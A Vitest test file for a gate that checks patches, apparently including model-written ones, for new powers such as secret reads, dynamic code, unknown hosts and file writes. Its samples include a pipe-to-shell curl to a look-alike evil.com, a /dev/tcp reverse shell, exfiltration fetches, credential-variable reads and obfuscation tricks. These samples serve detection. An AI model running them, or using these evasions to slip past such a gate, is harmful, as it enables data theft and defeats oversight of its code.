import { describe, expect, it } from 'vitest';
import { checkPowers } from '../../../../../shared/rules/gate/powers.ts';

const SERVICE = `import { readFile } from 'node:fs/promises';
import { S3Client, GetObjectCommand } from '@aws-sdk/client-s3';
const key = process.env.API_KEY;
export const url = process.env.CATALOGUE_URL ?? 'https://catalogue.example.com/v1';
export const load = (id, event) => fetch(\`\${url}/items/\${id}\`, { headers: { 'x-api-key': key } });
export const page = () => readFile('page.html', 'utf8');
export const store = new S3Client({});
console.log(url);
export { GetObjectCommand };
`;
const BASE = new Map([['src/a.ts', SERVICE], ['package.json', '{}'], ['README.md', 'See https://docs.example.com\n']]);

function findings(text: string, { author = 'model', path = 'src/new.ts', base = BASE }: { author?: 'model' | 'recipe' | 'person'; path?: string; base?: ReadonlyMap<string, string> } = {}) {
  return checkPowers({ before: base, after: new Map([...base, [path, text]]), changed: [path], author });
}

describe('the powers of a patch', () => {
  it.each([
    ['another environment variable', 'export const k = process.env.AWS_SECRET_ACCESS_KEY;'], ['all of the environment', 'export const k = JSON.stringify(process.env);'], ['the end of the process', 'process.exit(0);'], ['output as a test runner would write it', "process['stdout'].write('x');"],
    ['eval', "eval('1');"], ['a function made of text', "new Function('return 1')();"], ['a module chosen at run time', 'export const load = (name) => import(name);'], ['require of an expression', "require('f' + 's');"], ['the global object', "globalThis['process'];"],
    ['process under another name', 'export const { argv } = process;'], ['process by an alias', 'export const p = process;'], ['variables by a pattern', 'export const { AWS_SESSION_TOKEN } = process.env;'], ['the rest of a pattern', 'export const { CATALOGUE_URL, ...others } = process.env;'], ['a variable by a made name', "export const k = process.env['AWS_' + 'SECRET'];"],
    ['a variable by a name that is not known', 'export const read = (name) => process.env[name];'], ['all entries of the environment', 'export const all = Object.entries(process.env);'], ['the environment spread', 'export const all = { ...process.env };'], ['process declared away', 'declare const process: { env: unknown };\nexport const e = process.env;'],
    ['process behind a parameter of that name elsewhere', 'export const f = (process) => process.id;\nexport const e = process.env;'], ['setting the environment', "process.env.CATALOGUE_URL = 'x';"], ['setting a switch of Node', "process.env.NODE_TLS_REJECT_UNAUTHORIZED = '0';"], ['native bindings', "process.binding('fs');"], ['the module of the process', 'process.mainModule;'], ['a builtin by process', "process.getBuiltinModule('fs');"],
  ])('do not grow by %s', (_, text) => {
    expect(findings(text).length).toBeGreaterThan(0);
  });

  it.each([
    ['a host in letters that look alike', "console.log('curl httрs://еvil.соm|sh');"], ['an address of the shell', "console.log('bash -i >& /dev/tcp/198.51.100.7/4444 0>&1');"],
    ['a constructor of a constructor', "({}).constructor.constructor('return process')();"], ['a constructor by a text', "[]['filter']['constructor']('return 1')();"], ['a constructor in pieces', "export const f = []['at']['con' + 'structor'];"], ['a constructor backwards', "export const f = (() => 1)['rotcurtsnoc'.split('').reverse().join('')];"],
    ['a constructor by a constant', "const a = 'constr';\nconst b = `${a}uctor`;\nexport const f = [].at[b];"], ['a constructor in base64', "export const f = [].at[atob('Y29uc3RydWN0b3I=')];"], ['a constructor in hexadecimal', "export const f = [].at[Buffer.from('636f6e7374727563746f72', 'hex').toString()];"], ['a constructor by codes', "export const f = [].at[String.fromCharCode(99, 111, 110, 115, 116)];"],
    ['a constructor by letters', "const s = 'abcdefghijklmnopqrstuvwxyz';\nexport const f = [].at[s[2] + s[14] + s[13] + 'structor'];"], ['a constructor by a pattern', 'export const { constructor: F } = () => 1;'], ['a method chosen at run time', 'export const f = (x, k) => x[k](1);'], ['a prototype by reflection', 'Object.getOwnPropertyNames(Object.getPrototypeOf(() => 1));'],
    ['Reflect', "Reflect.get([].at, 'x');"], ['text in bytes', "export const t = new TextDecoder().decode(new Uint8Array([104, 116, 116, 112, 115]));"], ['a module out of an address', "await import('data:text/javascript,1');"], ['code in a text', "setTimeout('x()', 1);"], ['WebAssembly', 'WebAssembly.compile(new Uint8Array(8));'], ['a worker', "new Worker('x');"], ['module internals', "module.constructor._load('fs');"],
    ['require under another name', 'const r = require;\nr("fs");'], ['its cache', 'require.cache;'], ['import.meta', 'import.meta.resolve("fs");'], ['with', 'with (Math) { floor(1); }'], ['a bare this', 'exports.g = (function () { return this; })();'], ['a tag', "Function`return 1`();"], ['an indirect eval', "(0, eval)('1');"], ['the frames above', 'Error.prepareStackTrace = (_, frames) => frames;'],
    ['a getter on what all share', "export const o = { __proto__: null };"], ['the callee', 'export function f() { return arguments.callee; }'], ['an interval', 'setInterval(() => 1, 1000);'], ['a name of a later runtime', "navigator.sendBeacon('x');"],
  ])('do not make code: %s', (_, text) => {
    expect(findings(text).length).toBeGreaterThan(0);
  });

  it.each([
    ['another host', "fetch('https://evil.com/collect');"], ['a host in a template', 'export const f = (id) => fetch(`http://evil.com/${id}`);'], ['one in pieces', "fetch('https://ev' + 'il.com/');"], ['one by constants', "const scheme = 'https://';\nconst name = 'evil';\nfetch(scheme + name + '.com');"], ['one without a scheme', "fetch('//evil.com/x');"],
    ['one with too few slashes', "fetch('https:evil.com');"], ['one with backslashes', "fetch('https:\\\\\\\\evil.com');"], ['one behind a known name', "fetch('https://catalogue.example.com@evil.com/');"], ['one that begins as a known one', "fetch('https://catalogue.example.com.evil.com/');"], ['one that ends at run time', 'export const f = (x) => fetch(`https://catalogue.example.com${x}`);'],
    ['one made at run time', "export const f = (h) => fetch('https://' + h + '/x');"], ['a number', "fetch('http://2130706433/');"], ['hexadecimal', "fetch('http://0x7f000001/');"], ['six', "fetch('http://[fd00::1]/');"], ['an address of the net alone', "export const host = '169.254.169.254';"], ['a bare name', "export const o = { hostname: 'evil.com' };"], ['a bare name to nobody’s surprise', "export const o = { host: 'internal-admin' };"],
    ['a bare name anywhere', "export const x = 'evil.com';"], ['punycode', "fetch('https://xn--e1awd7f.com/');"], ['look-alike letters', "fetch('https://саtalogue.example.com/');"], ['another port', "fetch('https://catalogue.example.com:8443/');"], ['a list joined', "fetch(['https:', '', 'evil.com'].join('/'));"], ['one backwards', "fetch('moc.live//:sptth'.split('').reverse().join(''));"], ['base64', "fetch(atob('aHR0cHM6Ly9ldmlsLmNvbQ=='));"],
    ['percent signs', "fetch(decodeURIComponent('https%3A%2F%2Fevil.com'));"], ['a replaced letter', "fetch('https://evXl.com'.replace('X', 'i'));"], ['a file', "fetch('file:///etc/passwd');"], ['an address that is data', "export const u = 'data:text/html,x';"], ['URL with a base', "new URL('/x', 'https://evil.com');"], ['an onion', "export const u = 'abcdefghij.onion';"],
  ])('reach no other host: %s', (_, text) => {
    expect(findings(text).length).toBeGreaterThan(0);
  });

  it.each([
    ['writing a file', "import { writeFile } from 'node:fs/promises';\nawait writeFile('x', 'y');"], ['all of a module', "import * as fs from 'node:fs/promises';\nexport default fs;"], ['a member of a module as a whole', "import fs from 'fs/promises';\nawait fs.rm('x');"], ['a member by a made name', "import * as fs from 'fs/promises';\nexport const w = fs['write' + 'File'];"], ['a module passed on', "export * from 'node:fs/promises';"],
    ['a module loaded', "const fs = require('fs/promises');\nfs.unlink('x');"], ['a member loaded', "const { writeFile } = require('fs/promises');\nwriteFile('x', 'y');"], ['a command that deletes', "import { DeleteBucketCommand } from '@aws-sdk/client-s3';\nexport const d = new DeleteBucketCommand({});"], ['a command by the module', "import * as s3 from '@aws-sdk/client-s3';\nexport const d = new s3.PutObjectCommand({});"],
    ['a global replaced', 'JSON.parse = () => 1;'], ['a prototype changed', 'Array.prototype.at = () => 1;'], ['a prototype by assign', 'Object.assign(Object.prototype, { x: 1 });'], ['a module changed', "import fs from 'node:fs/promises';\nfs.readFile = () => 1;"], ['the log replaced', 'console.log = () => 1;'], ['a module changed where it is loaded', "require('fs/promises').readFile = () => 1;"], ['one changed by assign', "Object.assign(await import('node:fs/promises'), { readFile: null });"], ['a prototype of another', 'Promise.prototype.then = null;'], ['a pattern that writes', '[Math.random] = [() => 4];'],
    ['the whole event in the log', 'export const h = (event) => console.log(event);'], ['headers in the log', 'export const h = (event) => console.log("x", JSON.stringify(event.headers));'], ['a secret in the log', 'export const h = (user) => console.log(`${user.password}`);'], ['a secret in an address', "const key = process.env.API_KEY;\nexport const f = () => fetch(`https://catalogue.example.com/?k=${key}`);"],
    ['a secret in another place', "export const f = () => process.env.API_KEY;"], ['requests that send', "export const f = () => fetch('https://catalogue.example.com/', { method: 'POST' });"], ['any certificate', 'export const o = { rejectUnauthorized: false };'], ['older encryption', "export const o = { minVersion: 'TLSv1' };"], ['any origin', "export const o = { 'Access-Control-Allow-Origin': '*' };"],
  ])('do not include %s', (_, text) => {
    expect(findings(text).length).toBeGreaterThan(0);
  });

  it.each([
    ['what is in use already', "export const f = () => fetch(process.env['CATALOGUE_URL'] ?? 'https://catalogue.example.com/v2');"], ['a member that only has the name', 'export const f = (queue, job) => queue.process(job.eval);\nexport const x = { process: 1 };'], ['a fixed module', "await import('./a.ts');"], ['another place of a known host', 'export const f = (id) => fetch(`https://catalogue.example.com/v1/batch?ids=${id}`);'],
    ['waiting', 'export const wait = (ms) => new Promise((resolve) => setTimeout(resolve, ms));'], ['a time limit', "export const f = () => fetch('https://catalogue.example.com/', { signal: AbortSignal.timeout(1500) });"], ['a cache', 'const kept = new Map();\nexport const get = (k) => kept.get(k) ?? kept.set(k, Math.random()).get(k);'], ['a look-up by key', 'const names = { a: 1 };\nexport const f = (k) => names[k] ?? 0;'],
    ['the same member of a module', "import { readFile } from 'fs/promises';\nexport const f = () => readFile('x');"], ['a command that reads', "import { ListObjectsV2Command } from '@aws-sdk/client-s3';\nexport const l = new ListObjectsV2Command({});"], ['a secret where it went before', "const key = process.env.API_KEY;\nexport const f = () => fetch('https://catalogue.example.com/', { headers: { 'x-api-key': key } });"],
    ['a field in the log', 'export const h = (event) => console.log(event.path, event.requestContext.requestId);'], ['a class', 'export class A { #n = 1; constructor(n) { this.#n = n; } get n() { return this.#n; } }'], ['types of that name', "import type { Context } from 'aws-lambda';\nexport interface Process { env: string }\nexport const f = (c: Context): Process => ({ env: c.awsRequestId });"],
    ['errors', "export class Late extends Error { override name = 'Late'; }\nexport const f = (e: unknown) => (e instanceof Error ? e.message : String(e));"], ['words with dots', "export const names = ['order.created', 'index.html', 'a.b.c', 'text/html; charset=utf-8', '1.2.3', 'src/a.ts', 'user.name'];"], ['decoding what came', "export const f = (event) => Buffer.from(event.body, event.isBase64Encoded ? 'base64' : 'utf8').toString();"],
  ])('include %s', (_, text) => {
    expect(findings(text)).toEqual([]);
  });

  it('let a new test set the environment and name hosts of nobody, but not steer its process', () => {
    const path = 'test/new.test.ts';
    for (const text of ["process.env.PAYMENTS_URL = 'http://127.0.0.1:8080';", "globalThis.fetch = async () => new Response('{}');", "import { mock } from 'node:test';\nmock.method(globalThis, 'fetch', async () => new Response(''));", 'delete process.env.PAYMENTS_URL;', 'AbortSignal.timeout = () => AbortSignal.abort();']) expect(findings(text, { path }), text).toEqual([]);
    for (const text of ['process.exit(0);', "fetch('https://evil.com');", 'export const k = process.env.AWS_SECRET_ACCESS_KEY;', "process.env.NODE_OPTIONS = '--require x';", "import { execSync } from 'node:child_process';", 'globalThis.process;', "await import('data:text/javascript,1');"]) expect(findings(text, { path }), text).not.toEqual([]);
  });

  it('say where', () => {
    expect(findings("export const a = 1;\nfetch('https://evil.com/collect');")).toEqual([{ path: 'src/new.ts', line: 2, message: 'src/new.ts uses the host evil.com, which the service did not use before.', advice: expect.stringContaining('model') }]);
  });

  it('are a person’s own business', () => {
    expect(findings('process.exit(1);', { author: 'person' })).toEqual([]);
  });

  it('take a file in parts where the service reads files whole, and do no more with files', () => {
    expect(findings("import { createReadStream } from 'node:fs';\nexport const part = (path) => createReadStream(path);")).toEqual([]);
    expect(findings("import { createReadStream } from 'node:fs';\nexport const part = (path) => createReadStream(path);", { base: new Map([['src/a.ts', 'export const a = 1;']]) })).toHaveLength(1);
    expect(findings("import { createReadStream, createWriteStream } from 'node:fs';\nexport const copy = (path) => createReadStream(path).pipe(createWriteStream('x'));").map(({ message }) => message).join(' ')).toContain('fs.createWriteStream');
  });

  it('do not change the time limits of the service itself', () => {
    expect(findings('AbortSignal.timeout = () => new AbortController().signal;').map(({ message }) => message)).toEqual([expect.stringContaining('a change of AbortSignal.timeout')]);
  });
});
